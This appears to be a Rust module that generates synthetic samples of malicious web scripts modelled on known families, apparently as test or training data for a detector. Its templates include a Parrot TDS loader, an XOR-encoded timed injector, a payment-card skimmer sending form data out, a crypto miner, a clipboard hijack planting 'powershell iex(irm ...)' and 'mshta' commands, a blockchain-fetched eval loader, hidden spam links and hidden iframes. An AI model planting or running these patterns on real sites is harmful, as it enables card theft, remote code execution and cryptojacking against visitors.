//! Scripts of families that hide little or nothing: what they look at, whom they ask, what they take.

use super::seed::Seed;

/// Parrot TDS in the clear: a client of its own, a mark that it was here, a look at where the visitor came from.
pub(crate) fn parrot(seed: &mut Seed) -> String {
    let mark = seed.letters("dejnswx", 4);
    let address = seed.address();
    let (client, token) = (seed.name(), seed.name());
    let run = seed.pick(&["eval(r)", "window['eval'](r)", "window[\"e\"+\"val\"](r)"]);
    format!(
        ";if({mark}===undefined){{var {mark}=true,{client}=function(){{this.get=function(a,b){{var c=new XMLHttpRequest();\
         c.onreadystatechange=function(){{if(c.readyState==4&&c.status==200)b(c.responseText)}};c.open('GET',a,true);c.send(null)}}}},\
         {token}=function(){{return Math.random().toString(36).substr(2)}};(function(){{var d=document,r=d.referrer,h=location.hostname,\
         k=d.cookie;if(r&&r.indexOf(h)<0&&!k){{var q=new {client}(),u='{address}&id='+{token}();q.get(u,function(r){{r.indexOf('{mark}')>=0&&{run}}})}}}})()}};"
    )
}

/// Sign1: an address that changes with the time, only for who comes from a search engine.
pub(crate) fn timed(seed: &mut Seed) -> String {
    let key = 1 + seed.below(60) as u8;
    let host = format!("https://{}.bad.example/", seed.letters("abcdefghijklmnop", 6));
    let coded: Vec<String> = host.bytes().map(|byte| (byte ^ key).to_string()).collect();
    let (list, text, made, place) = (seed.name(), seed.name(), seed.name(), seed.name());
    let from = seed.pick(&["google", "yahoo", "facebook", "instagram"]);
    format!(
        "(function(){{var {list}=[{}],{text}='';for(var i=0;i<{list}.length;i++){text}+=String.fromCharCode({list}[i]^{key});\
         if(/{from}/.test(document.referrer)&&document.cookie.indexOf('seen')<0){{var {made}=document.createElement('script'),\
         {place}=Math.floor(new Date().getTime()/6e5).toString(16);{made}.src={text}+{place}+'.js';document.head.appendChild({made})}}}})();",
        coded.join(",")
    )
}

/// A script that waits for a movement and then loads another.
pub(crate) fn movement(seed: &mut Seed) -> String {
    let address = seed.address();
    let code = seed.end(&address);
    let event = seed.pick(&["mousemove", "scroll", "touchstart", "keydown"]);
    match seed.below(2) {
        0 => format!("document.body.on{event}=function(){{document.body.on{event}=null;{code}}};"),
        _ => format!("document.addEventListener('{event}',function(){{{code}}},{{once:true}});"),
    }
}

/// A look at the visitor, then a script or another page.
pub(crate) fn gate(seed: &mut Seed) -> String {
    let address = seed.address();
    let look = seed.pick(&[
        "/Windows/.test(navigator.userAgent)",
        "document.referrer.match(/google|bing|yahoo/)",
        "document.cookie.indexOf('wp-admin')==-1&&document.referrer",
        "navigator.userAgent.indexOf('Mobile')>0",
    ]);
    let end = match seed.below(3) {
        0 => format!("window.location.href='{address}';"),
        1 => format!("location.replace(\"{address}\");"),
        _ => seed.end(&address),
    };
    let code = format!("if({look}){{{end}}}");
    seed.wrapped(&code)
}

/// A skimmer: what is typed goes elsewhere.
pub(crate) fn skimmer(seed: &mut Seed) -> String {
    let address = seed.address();
    let (send, data) = (seed.name(), seed.name());
    let field = seed.pick(&["cc_number", "card_number", "cvv", "payment[cc_cid]"]);
    let body = match seed.below(3) {
        0 => format!("(new Image()).src='{address}&d='+encodeURIComponent(btoa({data}));"),
        1 => format!("fetch('{address}',{{method:'POST',mode:'no-cors',body:{data}}});"),
        _ => format!("var x=new XMLHttpRequest();x.open('POST','{address}',true);x.send({data});"),
    };
    format!(
        "function {send}(){{var {data}='',f=document.querySelectorAll('input,select');for(var i=0;i<f.length;i++){{\
         if(f[i].value.length>0)({data}+=f[i].name+'='+f[i].value+'&');}}if(/checkout|payment/.test(location.href)\
         &&document.getElementsByName('{field}').length){{{body}}}}}\
         document.addEventListener('{}',{send});",
        seed.pick(&["click", "submit", "change"])
    )
}

/// A miner.
pub(crate) fn miner(seed: &mut Seed) -> String {
    let key = seed.letters("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", 32);
    let (miner, throttle) = (seed.name(), seed.below(9));
    let kind = seed.pick(&["CoinHive.Anonymous", "CoinHive.User", "CoinImp.Anonymous", "Client.Anonymous"]);
    format!("var {miner}=new {kind}('{key}',{{throttle:0.{throttle}}});{miner}.start();")
}

/// What lies on the clipboard is to be run.
pub(crate) fn clipboard(seed: &mut Seed) -> String {
    let address = seed.address();
    let command = match seed.below(3) {
        0 => format!("powershell -w hidden -c iex(irm {address})"),
        1 => format!("mshta {address}"),
        _ => format!("cmd /c curl {address} | powershell"),
    };
    let name = seed.name();
    let literal = if seed.flip() { seed.pieces(&command, 9) } else { seed.quoted(&command) };
    match seed.below(2) {
        0 => format!(
            "function {name}(){{navigator.clipboard.writeText({literal})}}document.addEventListener('click',{name});"
        ),
        _ => format!(
            "var {name}=document.createElement('textarea');{name}.value={literal};document.body.appendChild({name});\
             {name}.select();document.execCommand('copy');"
        ),
    }
}

/// The next stage stands on a block chain.
pub(crate) fn chain(seed: &mut Seed) -> String {
    let contract = seed.letters("0123456789abcdef", 40);
    let (asked, code) = (seed.name(), seed.name());
    let run = seed.pick(&["eval", "new Function", "window['eval']"]);
    let node = seed.pick(&["bsc-dataseed.example", "polygon-rpc.example", "rpc.bad.example"]);
    format!(
        "fetch('https://{node}/',{{method:'POST',headers:{{'Content-Type':'application/json'}},body:JSON.stringify({{jsonrpc:'2.0',\
         id:{},method:'eth_call',params:[{{to:'0x{contract}',data:'0x6d4ce63c'}},'latest']}})}}).then(function({asked}){{return {asked}.json()}})\
         .then(function({asked}){{var {code}={asked}.result;{run}(atob({code}))}});",
        1 + seed.below(90)
    )
}

/// A style that hides links, written by digits (`dnnViewState`).
pub(crate) fn hidden_links(seed: &mut Seed) -> String {
    let (class, function) = (seed.letters("abcdefghijklmnopqrstuvwxyz", 6), seed.name());
    let (more, text) =
        (seed.below(30), format!("<style>.{class}{{position:absolute;top:-9999px;left:-9999px}}</style>"));
    let digits: String = text.bytes().map(|byte| format!("{:03}", usize::from(byte) + more)).collect();
    let words = ["激安 スロット", "casino bonus", "cheap viagra", "オンラインカジノ"];
    let link = |seed: &mut Seed| format!("<a href=\"{}\">{}</a> ", seed.address(), seed.pick(&words));
    let links: String = (0..4 + seed.below(6)).map(|_| link(seed)).collect();
    format!(
        "<div class=\"{class}\">{links}</div><script>function {function}(){{var a='{digits}',b='';for(var i=0;i<a.length;i+=3)\
         b+=String.fromCharCode(parseInt(a.substr(i,3),10)-{more});document.write(b)}}{function}();</script>"
    )
}

/// Markup between a pair of comments.
pub(crate) fn sentinels(seed: &mut Seed) -> String {
    let mark = seed.letters("0123456789abcdef", 6);
    let address = seed.address();
    let frame = format!("<iframe src=\"{address}\" width=\"1\" height=\"1\" style=\"visibility:hidden\"></iframe>");
    match seed.below(3) {
        0 => format!("<!--{mark}-->{frame}<!--/{mark}-->"),
        1 => format!("<script>/*{mark}*/document.write('{frame}');/*/{mark}*/</script>"),
        _ => format!("<!--{mark}--><script src=\"{address}\"></script><!--/{mark}-->"),
    }
}

/// A page that only leads elsewhere.
pub(crate) fn redirect(seed: &mut Seed) -> String {
    let address = seed.address();
    let way = match seed.below(4) {
        0 => format!("window.location.href=\"{address}\";"),
        1 => format!("location.replace('{address}')"),
        2 => format!("top.location='{address}';"),
        _ => format!("setTimeout(function(){{window.location='{address}'}},{})", seed.below(900)),
    };
    format!("<script language=\"javascript\" type=\"text/javascript\">{way}</script>")
}
